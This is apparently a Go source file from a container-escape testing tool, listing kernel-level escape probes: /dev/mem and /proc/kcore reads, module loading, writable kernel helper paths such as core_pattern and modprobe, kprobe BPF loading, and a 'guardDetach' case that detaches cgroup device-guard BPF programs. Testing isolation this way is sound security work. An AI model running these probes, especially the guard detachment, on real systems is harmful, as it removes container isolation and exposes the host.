//go:build linux

package escape

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"unsafe"

	"golang.org/x/sys/unix"
)

var kernelCases = []Case{
	{
		Name: "kernel-memory", try: (*attempt).kernelMemory,
		Why: "all devices are in the kernel's memory",
	},
	{
		Name: "kernel-modules", try: (*attempt).kernelModules,
		Why: "a module does what it wants",
	},
	{
		Name: "kernel-helpers", try: (*attempt).kernelHelpers,
		Why: "the kernel starts programs as root whose names stand in files",
	},
	{
		Name: "kernel-bpf", try: (*attempt).kernelBPF,
		Why: "a program at a kprobe reads the kernel's memory",
	},
	{
		Name: "kernel-perf", try: (*attempt).kernelPerf,
		Why: "perf events of all processes tell what they do",
	},
	{
		Name: "node-uring", try: (*attempt).nodeUring,
		Why: "what io_uring opens, a filter of system calls does not see",
	},
	{
		Name: "fuse-abort", try: func(a *attempt) (string, error) { return a.abortable("/sys/fs/fuse/connections") },
		Why: "whoever may write to fusectl ends the file system of all",
	},
	{
		Name: "node-handle", try: (*attempt).nodeHandle,
		Why: "a file opens by its handle from any mount of its file system, and one node bound from the host's /dev is such a mount",
	},
	{
		Name: "cgroup-handle", try: (*attempt).cgroupHandle,
		Why: "so does the cgroup of another, out of the reach of the guard",
	},
	{
		Name: "fuse-number", try: (*attempt).fuseNumber,
		Why: "name_to_handle_at shows the number that a file has in FUSE: one that counts tells how many neighbours there are",
	},
	{
		Name: "fuse-handle", try: (*attempt).fuseHandle,
		Why: "a file of FUSE opens by its number whatever part of the tree is mounted",
	},
	{
		Name: "guard-detach", Harms: true, try: (*attempt).guardDetach,
		Why: "without the program at its cgroup a container opens what it wants",
	},
}

func (a *attempt) kernelMemory() (string, error) {
	var errs error
	for _, n := range []Node{{Name: "mem", Major: 1, Minor: 1}, {Name: "port", Major: 1, Minor: 4}} {
		evidence, err := a.openOrMake(n)
		if err == nil {
			return evidence, nil
		}
		errs = errors.Join(errs, err)
	}
	kcore, err := os.Open(a.path("/proc/kcore"))
	if err == nil {
		defer kcore.Close()
		if n, err := kcore.Read(make([]byte, 64)); n == 64 {
			return "read /proc/kcore", nil
		} else if err != nil {
			return "", fmt.Errorf("/proc/kcore: %w", err)
		}
	}
	return "", errors.Join(brief(errs), err)
}

// kernelModules offers what is no module.
func (a *attempt) kernelModules() (string, error) {
	err := unix.InitModule([]byte("no module"), "")
	if errors.Is(err, unix.ENOEXEC) {
		return "the kernel takes modules", nil
	}
	return "", fmt.Errorf("init_module: %w", err)
}

func (a *attempt) kernelHelpers() (string, error) {
	return openFirst(os.O_WRONLY, []string{
		a.path("/proc/sys/kernel/core_pattern"),
		a.path("/proc/sys/kernel/modprobe"),
		a.path("/proc/sysrq-trigger"),
		a.path("/sys/kernel/uevent_helper"),
	})
}

// Of include/uapi/linux/bpf.h.
const (
	bpfProgLoad        = 5
	bpfProgDetach      = 9
	bpfProgGetFDByID   = 13
	bpfProgQuery       = 16
	bpfProgTypeKprobe  = 2
	bpfCgroupDevice    = 6
	bpfQueryMaxResults = 64
)

// bpf does again what a signal has kept the kernel from: it does not check a
// program while one is pending, and Go's runtime sends them to its own threads.
func bpf[T any](command uintptr, attr *T) (int, error) {
	for tries := 1; ; tries++ {
		n, _, errno := unix.Syscall(unix.SYS_BPF, command, uintptr(unsafe.Pointer(attr)), unsafe.Sizeof(*attr))
		switch {
		case errno == 0:
			return int(n), nil
		case errno != unix.EAGAIN || tries == 100:
			return 0, errno
		}
	}
}

func (a *attempt) kernelBPF() (string, error) {
	// r0 = 0; exit
	instructions := [2]uint64{0x00000000_0000_00_b7, 0x00000000_0000_00_95}
	license := []byte("GPL\x00")
	attr := struct {
		programType, count            uint32
		instructions, license         unsafe.Pointer
		logLevel, logSize             uint32
		log                           uint64
		kernelVersion, flags          uint32
		name                          [16]byte
		interfaceIndex, expectedAttch uint32
	}{
		programType:  bpfProgTypeKprobe,
		count:        uint32(len(instructions)),
		instructions: unsafe.Pointer(&instructions[0]),
		license:      unsafe.Pointer(&license[0]),
	}
	fd, err := bpf(bpfProgLoad, &attr)
	if err != nil {
		return "", fmt.Errorf("bpf: %w", err)
	}
	unix.Close(fd)
	return "loaded a program for kprobes", nil
}

func (a *attempt) kernelPerf() (string, error) {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	fd, err := unix.PerfEventOpen(&attr, -1, 0, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err != nil {
		return "", fmt.Errorf("perf_event_open: %w", err)
	}
	unix.Close(fd)
	return "watch a processor", nil
}

// guardDetach removes the programs at the cgroups that are to be seen.
func (a *attempt) guardDetach() (string, error) {
	const root = "/sys/fs/cgroup"
	dirs, err := filepath.Glob(root + "/*/cgroup.procs")
	if err != nil {
		return "", err
	}
	var errs error
	detached := 0
	for _, file := range append(dirs, root+"/cgroup.procs") {
		dir := filepath.Dir(file)
		n, err := detachPrograms(dir)
		detached += n
		errs = errors.Join(errs, err)
	}
	if detached == 0 {
		return "", errors.Join(errors.New("no program was detached"), brief(errs))
	}
	evidence, err := a.nodeMknod()
	if err != nil {
		return "", fmt.Errorf("detached %d programs, then %w", detached, err)
	}
	return fmt.Sprintf("detached %d programs, then %s", detached, evidence), nil
}

func detachPrograms(dir string) (detached int, err error) {
	cgroup, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return 0, fmt.Errorf("%s: %w", dir, err)
	}
	defer unix.Close(cgroup)
	var ids [bpfQueryMaxResults]uint32
	query := struct {
		target, attachType, queryFlags, attachFlags uint32
		ids                                         unsafe.Pointer
		count, pad                                  uint32
	}{target: uint32(cgroup), attachType: bpfCgroupDevice, ids: unsafe.Pointer(&ids[0]), count: uint32(len(ids))}
	if _, err = bpf(bpfProgQuery, &query); err != nil {
		return 0, fmt.Errorf("query the programs of %s: %w", dir, err)
	}
	for _, id := range ids[:min(int(query.count), len(ids))] {
		program, err := bpf(bpfProgGetFDByID, &struct{ id, next, flags uint32 }{id: id})
		if err != nil {
			return detached, fmt.Errorf("open a program: %w", err)
		}
		_, err = bpf(bpfProgDetach, &struct{ target, program, attachType, flags uint32 }{uint32(cgroup), uint32(program), bpfCgroupDevice, 0})
		unix.Close(program)
		if err != nil {
			return detached, fmt.Errorf("detach a program: %w", err)
		}
		detached++
	}
	return detached, nil
}
